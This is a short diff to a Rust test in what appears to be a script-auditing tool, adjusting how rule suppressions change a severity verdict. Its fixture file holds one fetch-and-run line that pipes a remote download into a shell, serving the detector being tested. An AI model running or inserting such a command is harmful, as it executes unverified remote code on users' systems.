@@ -147,7 +147,7 @@ fn suppressions_need_a_reason_and_say_when_they_are_not_needed() {
     let file = AuditFile::new("a.sh", false, b"curl http://192.0.2.1/a | sh\n");
     let mut verdict = audit([file].into_iter());
     suppressions.apply("b", &mut verdict);
-    assert!(verdict.is_refused());
+    assert_eq!(verdict.as_str(), "high");
     suppressions.apply("a", &mut verdict);
     assert_eq!((verdict.as_str(), verdict.findings[0].suppressed.as_deref()), ("clean", Some("ours")));
     assert_eq!(suppressions.unused().map(|one| one.rule.as_str()).collect::<Vec<_>>(), ["PA401"]);
